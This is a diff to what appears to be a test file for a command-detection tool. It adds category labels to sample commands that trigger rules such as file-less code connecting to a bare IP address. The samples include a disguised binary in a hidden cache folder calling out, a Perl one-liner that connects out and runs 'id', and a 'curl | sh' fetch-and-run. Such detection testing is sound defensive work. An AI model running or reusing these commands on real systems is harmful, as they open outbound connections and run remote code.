@@ -32,13 +32,17 @@ curl -s http://10.9.8.7/
 #setup mkdir -p /home/ann/.cache; cp /opt/lab/connect /home/ann/.cache/.thumbd
 /home/ann/.cache/.thumbd tcp4 203.0.113.9 443
 ## Code without a file connects to the internet
+#also Code without a file connects to an address without a name
 python3 -c 'import socket; socket.socket().connect_ex(("203.0.113.9", 443))'
 ## Code without a file connects to the internet and runs commands
+#also Code without a file connects to an address without a name
 #also Code without a file connects to the internet
 perl -MIO::Socket::INET -e 'IO::Socket::INET->new("203.0.113.9:443"); system "id; :"'
 ## Code without a file waits for callers
 timeout 1 python3 -c 'import socket; socket.create_server(("", 2022)).accept()'
 ## Commands fetched from an unusual place
+#also Download beside an interpreter
+#also Download from an address without a name beside an interpreter
 #also Download run without being looked at
 #also Transfer tool given a bare address
 curl -s -m 1 http://203.0.113.9/a.sh | sh
